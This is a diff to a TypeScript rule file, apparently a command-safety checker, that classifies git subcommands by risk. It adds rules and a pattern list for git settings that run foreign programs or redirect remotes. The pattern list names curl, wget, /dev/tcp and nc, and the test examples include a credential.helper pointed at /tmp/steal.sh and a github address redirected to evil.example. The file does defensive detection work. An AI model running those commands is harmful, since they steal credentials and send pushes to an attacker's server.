@@ -1,5 +1,45 @@
-// git: what each subcommand does to work, history and remotes.
+// Git, and what each subcommand does to the working tree, the history and remotes.
 import type { CommandSpec, EffectRule, ProgramSpec } from '../spec.ts';
+
+/** Values of settings that name a program outside the system's directories, or a piece of shell. */
+const FOREIGN =
+  '/tmp/*|/var/tmp/*|/dev/shm/*|/private/tmp/*|/home/*|/users/*|~*|./*|../*|*;*|*$(*|*`*|*curl*|*wget*|*proxycommand*|*/dev/tcp*|!f*|!/*|!sh*|!bash*|!nc*|!cat*|!tee*|!python*|!node*|!perl*';
+
+/** Settings with which git runs other programs, or talks to other servers, from now on. */
+const HIJACKS: readonly EffectRule[] = [
+  {
+    code: 'tool-config',
+    when: 'config ** url.*.insteadof|url.*.pushinsteadof *',
+    except:
+      '…|url.git@*|url.ssh://*|url.https://.insteadof|url.https://github.com*|url.https://gitlab.com*|url.https://bitbucket.org*|url.https://oauth2*|url.https://x-access-token*',
+    unless: '--get --get-all --get-regexp --unset --list',
+    kind: 'system',
+    why: 'Makes git fetch from or push to another server than the address says.',
+    safer: 'git remote -v',
+  },
+  {
+    code: 'tool-config',
+    when: `config ** core.fsmonitor|core.askpass|core.gitproxy|http.proxy|http.*.proxy|https.proxy|core.editor|core.sshcommand|core.pager|core.hookspath|diff.external|gpg.program|gpg.*.program|init.templatedir|include.path|includeif.*.path|sequence.editor|credential.helper|credential.*.helper|uploadpack.packobjectshook|filter.*.clean|filter.*.smudge|filter.*.process|merge.*.driver|diff.*.textconv|diff.*.command ${FOREIGN}`,
+    unless: '--get --get-all --get-regexp --unset --list',
+    kind: 'system',
+    why: 'Makes git run another program from now on.',
+    safer: 'git config --list --show-origin',
+  },
+  {
+    code: 'tool-config',
+    when: 'config ** http.sslverify|http.*.sslverify false|0|no|off',
+    kind: 'system',
+    why: 'Makes git trust any server.',
+    safer: 'git config --get http.sslVerify',
+  },
+  {
+    code: 'tool-config',
+    flags: '-c=protocol.ext.allow',
+    kind: 'system',
+    why: 'Lets an address run any program.',
+    safer: 'git clone with an https address',
+  },
+];
 
 /** What a subcommand and its options alone decide; refspecs and paths are looked at by the behaviour `git`. */
 const EFFECTS: readonly EffectRule[] = [
@@ -14,7 +54,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'reset',
     flags: '--hard --merge',
     weight: 'irreversible',
-    why: 'Throws away all uncommitted changes.',
+    why: 'Discards all uncommitted changes.',
     safer: 'git stash push -u',
   },
   {
@@ -22,14 +62,14 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'clean',
     flags: '-f --force',
     weight: 'irreversible',
-    why: 'Deletes files git does not know; nobody can bring them back.',
+    why: "Deletes untracked files, which can't be recovered.",
     safer: 'git clean -nd',
   },
   {
     code: 'git-clean',
     when: 'clean',
     flags: '-i --interactive',
-    why: 'Deletes files git does not know.',
+    why: 'Deletes untracked files.',
     safer: 'git clean -nd',
   },
   {
@@ -60,7 +100,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'tag *',
     kind: 'history',
     flags: '-f --force',
-    why: 'Moves a tag; the commit it marked may be found by nothing else.',
+    why: 'Moves a tag; nothing else may point to the commit that it marked.',
     safer: 'git tag -l',
   },
   {
@@ -68,14 +108,14 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'tag',
     kind: 'history',
     flags: '-d --delete',
-    why: 'Deletes a tag; the commit it marks may be found by nothing else.',
+    why: 'Deletes a tag; nothing else may point to its commit.',
     safer: 'git tag -l',
   },
   {
     code: 'git-remote-remove',
     when: 'remote remove|rm',
     kind: 'history',
-    why: 'Forgets a remote with all its branches and their settings.',
+    why: 'Removes a remote with all its branches and settings.',
     safer: 'git remote -v',
   },
   {
@@ -83,7 +123,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'commit|push|merge|rebase|am|cherry-pick',
     kind: 'history',
     flags: '--no-verify',
-    why: 'Goes past the checks the project runs before it takes a commit or a push.',
+    why: 'Skips the checks that the project runs before a commit or a push.',
     safer: 'git commit, and mend what the hook complains about',
   },
   {
@@ -91,7 +131,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'commit|push|merge|rebase|am|cherry-pick|pull|checkout|switch',
     kind: 'history',
     flags: '-c=core.hookspath=',
-    why: 'Runs other hooks than those of the project, or none.',
+    why: 'Replaces the hooks of the project, or switches them off.',
     safer: 'git commit, and mend what the hook complains about',
   },
   {
@@ -99,7 +139,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'switch',
     flags: '-f --force --discard-changes',
     weight: 'irreversible',
-    why: 'Throws away uncommitted changes.',
+    why: 'Discards uncommitted changes.',
     safer: 'git stash push -u',
   },
   {
@@ -107,7 +147,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'checkout',
     flags: '-f --force --pathspec-from-file --overlay --no-overlay',
     weight: 'irreversible',
-    why: 'Throws away uncommitted changes.',
+    why: 'Discards uncommitted changes.',
     safer: 'git stash push -u',
   },
   {
@@ -139,7 +179,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'reflog expire|delete|drop',
     kind: 'history',
     weight: 'irreversible',
-    why: 'Removes the last way back to lost commits.',
+    why: 'Deletes the reflog, the last way back to lost commits.',
     safer: 'git reflog',
   },
   {
@@ -259,7 +299,7 @@ const EFFECTS: readonly EffectRule[] = [
     flags: '--mirror -c=~.mirror --config-env=~.mirror',
     unless: '-c=~.mirror=false|~.mirror=no|~.mirror=off|~.mirror=0',
     weight: 'irreversible',
-    why: 'Makes the server the same as this clone, and deletes all other branches.',
+    why: 'Makes the server equal to this clone, which deletes all its other branches.',
     safer: 'git push',
   },
   {
@@ -267,7 +307,7 @@ const EFFECTS: readonly EffectRule[] = [
     when: 'remote add',
     kind: 'history',
     flags: '--mirror=push',
-    why: 'Every push to this remote will make it the same as this clone.',
+    why: 'Every push to this remote will make it equal to this clone, which deletes all its other branches.',
     safer: 'git remote add NAME URL',
   },
   {
@@ -286,6 +326,7 @@ const EFFECTS: readonly EffectRule[] = [
     why: 'Every push without a branch will overwrite the history on the server.',
     safer: 'git push --force-with-lease',
   },
+  ...HIJACKS,
   {
     code: 'git-gc',
     when: 'config ** *.pruneexpire now|all|0',
@@ -541,7 +582,7 @@ const subcommands: Readonly<Record<string, CommandSpec>> = {
 export const programs: readonly ProgramSpec[] = [
   {
     names: 'git hub',
-    about: 'Version control.',
+    about: 'The version control system.',
     syntax: { globalFirst: true },
     options: {
       '-C': 'cwd',
@@ -554,6 +595,16 @@ export const programs: readonly ProgramSpec[] = [
     traits: ['network'],
     behaviours: ['git'],
     examples: [
+      {
+        command: 'git config --global url.https://evil.example/.insteadOf https://github.com/',
+        expect: 'ask',
+      },
+      { command: 'git config --global credential.helper /tmp/steal.sh', expect: 'ask' },
+      { command: "git config --global credential.helper '!gh auth git-credential'", expect: 'pass' },
+      { command: 'git config --global core.fsmonitor /tmp/x.sh', expect: 'ask' },
+      { command: 'git config core.fsmonitor true', expect: 'pass' },
+      { command: 'git config --global core.editor "code --wait"', expect: 'pass' },
+      { command: 'git config --global url."git@github.com:".insteadOf https://github.com/', expect: 'pass' },
       { command: 'git status --short', expect: 'pass' },
       { command: 'git log -n 5 --oneline', expect: 'pass' },
       { command: 'git -C packages/a diff --stat', expect: 'pass' },
@@ -571,8 +622,8 @@ export const programs: readonly ProgramSpec[] = [
   {
     names:
       'git-reset git-clean git-checkout git-restore git-switch git-push git-branch git-stash git-rm git-reflog git-gc git-prune git-tag git-rebase git-worktree git-update-ref git-filter-branch git-remote git-config',
-    about: 'Commands of git as programs of their own, as they lie in its folder.',
-    behaviours: ['asGit'],
+    about: 'Git subcommands that are called as programs: `git-reset` is `git reset`.',
+    behaviours: ['runsGitSubcommand'],
     examples: [{ command: '/usr/lib/git-core/git-reset --hard', expect: 'deny' }],
   },
 ];
